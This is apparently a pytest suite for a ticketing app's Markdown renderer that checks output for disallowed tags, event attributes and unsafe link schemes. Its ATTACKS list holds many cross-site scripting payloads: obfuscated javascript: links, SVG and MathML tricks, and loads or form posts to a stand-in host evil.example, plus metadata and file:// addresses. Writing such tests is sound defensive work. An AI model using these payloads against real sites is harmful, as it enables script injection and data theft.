"""Messages are Markdown; what comes out of them runs nothing, fetches nothing and links safely."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from tickets.markdown import render

ALLOWED_TAGS = {
    "p", "br", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "hr",
    "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip


class Inspector(HTMLParser):
    """Reads HTML as a browser would and collects every tag and attribute in it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\x0c>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" oNeRrOr="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<div style=background:url(https://evil.example/)>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,<script>alert(1)</script>></object>",
    "<embed src=https://evil.example/x.swf>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=https://evil.example/><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/x)",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    '[x](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "[x](https://ok.example' onmouseover='alert(1))",
    '[x](https://ok.example" onmouseover="alert(1))',
    "![x](https://evil.example/pixel.png)",
    "![x](http://169.254.169.254/latest/meta-data/)",
    "![x](cid:secret)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x][y]\n\n[y]: https://evil.example/pixel.png",
    '<img src="https://evil.example/pixel.png">',
    '```"><script>alert(1)</script>\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "| a |\n|:-:|\n| b |",
    "# <img src=x onerror=alert(1)>",
    "<h1 onclick=alert(1)>x</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "<p id=x class=y name=z data-x=1 hx-get=/desk/>x</p>",
    "<a href='https://ok.example' target=_blank ping=https://evil.example>x</a>",
    "[x](https://ok.example){onclick=alert(1)}",
]  # fmt: skip


def scheme_of(address: str) -> str:
    """Return the scheme that a browser reads from an address (URL Standard, 4.4), empty for a relative one."""
    seen = re.sub(r"[\t\n\r]", "", address).lstrip("".join(map(chr, range(33))))
    found = re.match(r"([a-z][a-z0-9+.-]*):", seen, re.IGNORECASE)
    return found[1].lower() if found else ""


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(text: str) -> None:
    for wrapped in (text, f"> {text}", f"- {text}", f"**{text}**", f"{text}\n\n{text}"):
        seen = Inspector(render(wrapped))
        assert seen.tags <= ALLOWED_TAGS, wrapped
        for tag, name, value in seen.attributes:
            assert (tag, name) in {("a", "href"), ("a", "rel"), ("a", "title")}, wrapped
            if name == "href":
                assert scheme_of(value) in {"", "http", "https", "mailto"}, wrapped


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "`<script>alert(1)</script>`",
        "```\n<script>alert(1)</script>\n```",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
    ],
)
def test_markup_that_was_typed_is_shown_as_it_was_typed(text: str) -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render(text)


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**bold** *em* ~~gone~~", "<p><strong>bold</strong> <em>em</em> <s>gone</s></p>\n"),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("`x < 1`", "<p><code>x &lt; 1</code></p>\n"),
        ("```\n$ ls | wc\n```", "<pre><code>$ ls | wc\n</code></pre>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>\n"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>\n"),
        ("# Top", "<h3>Top</h3>\n"),
        ("## Next", "<h4>Next</h4>\n"),
        ("### Third", "<h3>Third</h3>\n"),
        ("---", "<hr>\n"),
        ("5 > 4 & 3 < 4", "<p>5 &gt; 4 &amp; 3 &lt; 4</p>\n"),
    ],
)
def test_what_people_write_survives(text: str, html: str) -> None:
    assert render(text) == html


def test_a_table_survives() -> None:
    html = render("| Host | State |\n|---|---|\n| web-1 | down |")
    assert Inspector(html).tags == {"table", "thead", "tbody", "tr", "th", "td"}
    assert "<td>web-1</td>" in html


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[x](https://status.example/a?b=1&c=2)", "https://status.example/a?b=1&amp;c=2"),
        ("[x](http://status.example)", "http://status.example"),
        ("[x](mailto:ann@acme.example)", "mailto:ann@acme.example"),
        ("[x](/c/acme/tickets/1/)", "/c/acme/tickets/1/"),
        ("<https://status.example>", "https://status.example"),
    ],
)
def test_a_link_survives_and_tells_its_target_nothing(text: str, href: str) -> None:
    html = render(text)
    assert f'href="{href}"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_a_bare_address_stays_text() -> None:
    assert render("see https://status.example") == "<p>see https://status.example</p>\n"


@pytest.mark.parametrize(
    "piece",
    ["[", "![", "](", "*", "_", "`", "~", ">", "> ", "- ", "1. ", "<", "<!--", "<a ", "&", "|", "|-",
     "#", "\\", "\n", "\r\n", "\t", "[a](b", "*a _b ", "**x", "a**b_c", "<x>", "| a |\n|---|\n", "[a]: /b\n",
     "\x00", "\u202e", "é", "\U0001f600"],
)  # fmt: skip
def test_twenty_thousand_characters_of_anything_come_out_safe(piece: str) -> None:
    """Each of these made some parser slow or recurse without end; a hang or an error fails the run."""
    seen = Inspector(render((piece * 20_000)[:20_000]))
    assert seen.tags <= ALLOWED_TAGS


@pytest.mark.parametrize(
    ("opening", "closing"), [("[", "](x)"), ("*", "*"), ("> ", ""), ("(", ")"), ("`", "`")]
)
def test_deep_nesting_comes_out_safe(opening: str, closing: str) -> None:
    depth = 20_000 // (len(opening) + len(closing) + 1)
    seen = Inspector(render(opening * depth + "x" + closing * depth))
    assert seen.tags <= ALLOWED_TAGS
